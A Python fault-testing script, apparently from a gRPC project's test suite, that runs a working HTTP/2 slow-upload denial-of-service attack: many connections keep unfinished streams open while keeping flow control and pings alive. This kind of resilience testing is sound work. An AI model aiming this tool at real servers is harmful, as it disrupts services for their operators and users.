"""Attacks a gRPC server with unfinished uploads over raw HTTP/2 connections.

Each connection opens calls without a valid API key and sends as much of their bodies as
flow control permits, but never finishes one. Run as a program:
`python -m tests.faults.hostile_http2 HOST:PORT CONNECTIONS SECONDS`.
"""

import asyncio
import struct
import sys
import time
from contextlib import suppress

from tests.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header_block,
)

_INITIAL_WINDOW_SIZE = 4
_FRAME_BYTES = 16_384
_OPEN_STREAMS = 50
_MESSAGE_BYTES = 16 * 1024 * 1024 - 10
_HEADER_BLOCK = header_block({b"authorization": b"Bearer hp_" + b"0" * 43})


class _Connection:
    """One hostile connection: keeps `_OPEN_STREAMS` unfinished calls open."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._initial_window = 65_535
        self._window = 65_535
        self._streams: dict[int, int] = {}
        self._next = 1
        self._changed = asyncio.Event()

    async def attack(self) -> None:
        """Send until the connection ends."""
        self._writer.write(PREFACE + frame(SETTINGS, 0, 0))
        receiving = asyncio.create_task(self._receive())
        try:
            while not receiving.done():
                if not self._send():
                    self._changed.clear()
                    with suppress(TimeoutError):
                        await asyncio.wait_for(self._changed.wait(), 0.05)
                await self._writer.drain()
                await asyncio.sleep(0)
        finally:
            receiving.cancel()
            self._writer.close()

    def _send(self) -> bool:
        """Send one frame, or open a call; return whether there was anything to send."""
        for stream, window in self._streams.items():
            size = min(window, self._window, _FRAME_BYTES)
            if size > 0:
                self._writer.write(frame(DATA, 0, stream, bytes(size)))
                self._streams[stream] -= size
                self._window -= size
                return True
        if len(self._streams) >= _OPEN_STREAMS:
            return False
        prefix = struct.pack(">BI", 0, _MESSAGE_BYTES)
        self._writer.write(frame(HEADERS, END_HEADERS, self._next, _HEADER_BLOCK))
        if self._window >= len(prefix):
            self._writer.write(frame(DATA, 0, self._next, prefix))
            self._window -= len(prefix)
            self._streams[self._next] = self._initial_window - len(prefix)
        self._next += 2
        return True

    async def _receive(self) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags = head[3], head[4]
                self._handle(kind, flags, int.from_bytes(head[5:9], "big"), payload)
                self._changed.set()
                if kind == GOAWAY:
                    return

    def _handle(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for position in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, position)
                if name == _INITIAL_WINDOW_SIZE:
                    self._initial_window = value
            self._writer.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._writer.write(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            (increment,) = struct.unpack(">I", payload)
            if stream == 0:
                self._window += increment
            elif stream in self._streams:
                self._streams[stream] += increment
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self._streams.pop(stream, None)


async def attack(host: str, port: int, connections: int, seconds: float) -> None:
    """Attack a server until the time is over."""
    deadline = time.monotonic() + seconds

    async def one() -> None:
        while time.monotonic() < deadline:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port)
                await _Connection(reader, writer).attack()
            await asyncio.sleep(0.1)

    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*(one() for _ in range(connections)))


if __name__ == "__main__":
    _host, _, _port = sys.argv[1].rpartition(":")
    asyncio.run(attack(_host, int(_port), int(sys.argv[2]), float(sys.argv[3])))
